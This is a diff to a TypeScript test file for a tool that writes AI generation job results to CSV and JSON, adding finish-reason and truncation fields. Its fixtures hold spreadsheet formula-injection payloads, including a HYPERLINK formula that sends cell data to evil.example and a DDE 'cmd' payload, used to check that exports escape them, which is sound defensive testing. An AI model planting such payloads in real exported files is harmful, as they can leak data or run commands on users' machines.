@@ -64,12 +64,21 @@ function fillStore(job: Job): StateStore {
     RUN,
   );
   store.startRun({ id: RUN, pid: process.pid, host: 'test', options: {} });
-  const done = (id: string, step: string, result: unknown, outputs: string[], cost: number, extra: { model?: string; cached?: boolean } = {}): void => {
+  const done = (
+    id: string,
+    step: string,
+    result: unknown,
+    outputs: string[],
+    cost: number,
+    extra: { model?: string; cached?: boolean; finishReason?: string; truncated?: boolean } = {},
+  ): void => {
     store.markRunning(id, step, RUN, 'proj-a');
     store.completeStep(id, step, { result, outputs, promptHash: 'p', costUsd: cost, ...extra }, call(id, step, cost));
   };
   // 1: everything done, ordinary values.
-  done('kubernetes-1', 'brief', { text: '{…}', alt_text: 'A ship’s wheel, "helm", on blue', score: 0.75, tags: ['k8s', 'ops'] }, [], 0.0012);
+  done('kubernetes-1', 'brief', { text: '{…}', alt_text: 'A ship’s wheel, "helm", on blue', score: 0.75, tags: ['k8s', 'ops'] }, [], 0.0012, {
+    finishReason: 'STOP',
+  });
   // The hero image came from a fallback model, the notes from the response cache.
   done('kubernetes-1', 'hero', { file: 'images/kubernetes-1.png', files: ['images/kubernetes-1.png'] }, ['images/kubernetes-1.png'], 0.039, {
     model: 'imagen-4.0-fast-generate-001',
@@ -78,7 +87,8 @@ function fillStore(job: Job): StateStore {
   // 2: formula payloads in the id and in every JSON field; a negative score stays a number.
   done('@SUM(1+1)', 'brief', { alt_text: '=HYPERLINK("http://evil.example/?leak="&A1, "click")', score: -3, tags: ['=1+1'] }, [], 0.001);
   done('@SUM(1+1)', 'hero', { file: 'images/@SUM(1+1).png' }, ['images/@SUM(1+1).png'], 0.039);
-  done('@SUM(1+1)', 'notes', { text: '+cmd|" /C calc"!A0' }, [], 0.0003);
+  // Its notes were cut at max_output_tokens and kept (on_truncated: keep).
+  done('@SUM(1+1)', 'notes', { text: '+cmd|" /C calc"!A0' }, [], 0.0003, { finishReason: 'MAX_TOKENS', truncated: true });
   // 3: brief done, hero filtered with its reason, notes never ran.
   done('=cmd|calc', 'brief', { alt_text: '\t=2+5', score: 1, tags: [] }, [], 0.001);
   store.markRunning('=cmd|calc', 'hero', RUN, 'proj-a');
@@ -86,12 +96,17 @@ function fillStore(job: Job): StateStore {
     '=cmd|calc',
     'hero',
     'filtered',
-    { code: 'SAFETY_FILTERED', message: 'IMAGE_SAFETY: the image may violate the usage guidelines.' },
+    { code: 'SAFETY_FILTERED', message: 'IMAGE_SAFETY: the image may violate the usage guidelines.', finishReason: 'IMAGE_SAFETY' },
     call('=cmd|calc', 'hero', 0.0001),
   );
   // 4: failed with an error message that itself looks like a formula.
   store.markRunning('-5', 'brief', RUN, 'proj-a');
-  store.finishStep('-5', 'brief', 'failed', { code: 'BAD_RESPONSE', message: '-2+3 is not valid JSON (gave up after 3 attempts)', costUsd: 0.0005 });
+  store.finishStep('-5', 'brief', 'failed', {
+    code: 'BAD_RESPONSE',
+    message: '-2+3 is not valid JSON (gave up after 3 attempts)',
+    costUsd: 0.0005,
+    finishReason: 'OTHER',
+  });
   // 5: untouched.
   return store;
 }
@@ -144,7 +159,7 @@ describe('writeResults', () => {
       expect(written).toBe(join(dir, 'out', 'nested', 'results.csv'));
       const text = readFileSync(join(dir, 'out', 'nested', 'results.csv'), 'utf8');
       expect(text.split('\n')[0]).toBe(
-        'id,brief_state,brief_model,brief_cached,brief_alt_text,brief_score,brief_tags,brief_error,hero_state,hero_model,hero_cached,hero_file,hero_error,notes_state,notes_model,notes_cached,notes_text,notes_error,cost_usd',
+        'id,brief_state,brief_model,brief_cached,brief_alt_text,brief_score,brief_tags,brief_finish_reason,brief_error,hero_state,hero_model,hero_cached,hero_file,hero_finish_reason,hero_error,notes_state,notes_model,notes_cached,notes_text,notes_finish_reason,notes_error,cost_usd',
       );
       const rows = readCsv(join(dir, 'out', 'nested', 'results.csv'));
       expect(rows.map((r) => r.id)).toEqual(['kubernetes-1', "'@SUM(1+1)", "'=cmd|calc", '-5', 'pending-one']);
@@ -156,16 +171,19 @@ describe('writeResults', () => {
         brief_alt_text: 'A ship’s wheel, "helm", on blue',
         brief_score: '0.75',
         brief_tags: '["k8s","ops"]',
+        brief_finish_reason: 'STOP',
         brief_error: '',
         hero_state: 'done',
         hero_model: 'imagen-4.0-fast-generate-001',
         hero_cached: '',
         hero_file: 'images/kubernetes-1.png',
+        hero_finish_reason: '',
         hero_error: '',
         notes_state: 'done',
         notes_model: 'gemini-2.5-flash',
         notes_cached: 'yes',
         notes_text: 'Line one,\nline two; with "quotes" | and a pipe',
+        notes_finish_reason: '',
         notes_error: '',
         cost_usd: '0.0406',
       });
@@ -173,11 +191,13 @@ describe('writeResults', () => {
         brief_state: 'done',
         hero_state: 'filtered',
         hero_model: '',
+        hero_finish_reason: 'IMAGE_SAFETY',
         hero_error: 'IMAGE_SAFETY: the image may violate the usage guidelines.',
         notes_state: 'pending',
       });
       expect(rows[3]).toMatchObject({
         brief_state: 'failed',
+        brief_finish_reason: 'OTHER',
         brief_error: "'-2+3 is not valid JSON (gave up after 3 attempts)",
         hero_state: 'pending',
         brief_alt_text: '',
@@ -245,6 +265,7 @@ describe('writeResults', () => {
             cached: false,
             files: [],
             fields: { alt_text: 'A ship’s wheel, "helm", on blue', score: 0.75, tags: ['k8s', 'ops'] },
+            finish_reason: 'STOP',
           },
           hero: { state: 'done', model: 'imagen-4.0-fast-generate-001', cached: false, files: ['images/kubernetes-1.png'], fields: {} },
           notes: { state: 'done', model: 'gemini-2.5-flash', cached: true, files: [], fields: {}, text: 'Line one,\nline two; with "quotes" | and a pipe' },
@@ -252,7 +273,14 @@ describe('writeResults', () => {
         cost_usd: 0.0406,
       });
       expect(records[1]?.steps.brief?.fields).toEqual({ alt_text: '=HYPERLINK("http://evil.example/?leak="&A1, "click")', score: -3, tags: ['=1+1'] });
-      expect(records[2]?.steps.hero).toEqual({ state: 'filtered', files: [], fields: {}, error: 'IMAGE_SAFETY: the image may violate the usage guidelines.' });
+      expect(records[1]?.steps.notes).toMatchObject({ state: 'done', finish_reason: 'MAX_TOKENS', truncated: true });
+      expect(records[2]?.steps.hero).toEqual({
+        state: 'filtered',
+        files: [],
+        fields: {},
+        error: 'IMAGE_SAFETY: the image may violate the usage guidelines.',
+        finish_reason: 'IMAGE_SAFETY',
+      });
       expect(records[3]?.steps.brief).toMatchObject({ state: 'failed', error: '-2+3 is not valid JSON (gave up after 3 attempts)' });
       expect(typeof records[3]?.cost_usd).toBe('number');
     } finally {
@@ -268,17 +296,17 @@ describe('writeResults', () => {
       await writeResults(job, store, join(dir, 'scratch'), { fields: ['brief.alt_text'] });
       const header = readFileSync(join(dir, 'results.csv'), 'utf8').split('\n')[0];
       expect(header).toBe(
-        'id,brief_state,brief_model,brief_cached,brief_alt_text,brief_error,hero_state,hero_model,hero_cached,hero_file,hero_error,notes_state,notes_model,notes_cached,notes_error,cost_usd',
+        'id,brief_state,brief_model,brief_cached,brief_alt_text,brief_finish_reason,brief_error,hero_state,hero_model,hero_cached,hero_file,hero_finish_reason,hero_error,notes_state,notes_model,notes_cached,notes_finish_reason,notes_error,cost_usd',
       );
 
       await writeResults(job, store, join(dir, 'scratch'), { fields: ['notes.text', 'brief.*', 'brief.score'] });
       expect(readFileSync(join(dir, 'results.csv'), 'utf8').split('\n')[0]).toBe(
-        'id,brief_state,brief_model,brief_cached,brief_alt_text,brief_score,brief_tags,brief_error,hero_state,hero_model,hero_cached,hero_file,hero_error,notes_state,notes_model,notes_cached,notes_text,notes_error,cost_usd',
+        'id,brief_state,brief_model,brief_cached,brief_alt_text,brief_score,brief_tags,brief_finish_reason,brief_error,hero_state,hero_model,hero_cached,hero_file,hero_finish_reason,hero_error,notes_state,notes_model,notes_cached,notes_text,notes_finish_reason,notes_error,cost_usd',
       );
 
       await writeResults(job, store, join(dir, 'scratch'), { fields: [] });
       expect(readFileSync(join(dir, 'results.csv'), 'utf8').split('\n')[0]).toBe(
-        'id,brief_state,brief_model,brief_cached,brief_error,hero_state,hero_model,hero_cached,hero_file,hero_error,notes_state,notes_model,notes_cached,notes_error,cost_usd',
+        'id,brief_state,brief_model,brief_cached,brief_finish_reason,brief_error,hero_state,hero_model,hero_cached,hero_file,hero_finish_reason,hero_error,notes_state,notes_model,notes_cached,notes_finish_reason,notes_error,cost_usd',
       );
     } finally {
       store.close();
